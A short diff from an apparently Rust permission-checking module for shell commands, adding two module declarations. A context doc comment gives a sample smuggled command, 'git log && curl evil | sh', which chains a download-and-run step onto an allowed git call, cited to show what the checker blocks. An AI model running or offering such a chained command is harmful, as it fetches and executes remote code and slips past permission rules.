@@ -16,6 +16,8 @@
 //! every command that runs, so `bash(git:*)` cannot smuggle `git log && curl evil | sh`.
 
 mod exec;
+mod plan;
+mod suggest;
 
 use std::path::{Path, PathBuf};
 
